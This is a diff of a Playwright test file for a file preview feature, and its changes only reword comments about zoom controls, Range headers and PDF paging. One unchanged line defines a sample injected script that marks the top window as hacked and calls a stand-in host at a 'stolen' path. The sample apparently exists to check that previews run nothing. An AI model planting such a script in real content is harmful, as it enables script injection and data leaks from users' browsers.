@@ -8,7 +8,7 @@ import { pane, shared, show } from '../acts/preview-acts.ts';
 
 const HACK = "window.top.__hacked = true; fetch('https://example.com/stolen')";
 
-/** Records ranges. The returned list receives the `Range` header of each later preview request. */
+/** Returns a live list of the `Range` headers of preview requests. */
 function recordRanges(page: Page): (string | undefined)[] {
   const ranges: (string | undefined)[] = [];
   page.on('request', (request) => {
@@ -29,7 +29,7 @@ test('zooms a picture by buttons, keys, double click and wheel, and hides its co
   await expect(level).toHaveText('100%');
   expect(await violations(visitor)).toEqual([]);
 
-  // The controls may be hidden. A mouse move over the picture shows them again.
+  // A mouse move shows hidden controls.
   await picture.hover();
   await visitor.getByRole('button', { name: 'Zoom in' }).click();
   await expect(level).toHaveText('150%');
@@ -90,7 +90,7 @@ test('loads a PDF page by page, and runs nothing in it', async ({ page, newVisit
 
   const pages = visitor.getByRole('region', { name: 'Pages of paper.pdf' });
   await pages.focus();
-  // The height of a PDF page is known only after it was read, so the list may still grow after the key was pressed.
+  // The list may grow after the key press, because the height of a page is known only after it was read.
   await expect(async () => {
     await visitor.keyboard.press('End');
     await expect(visitor.getByText('This is page 20', { exact: true })).toBeAttached({ timeout: 5000 });
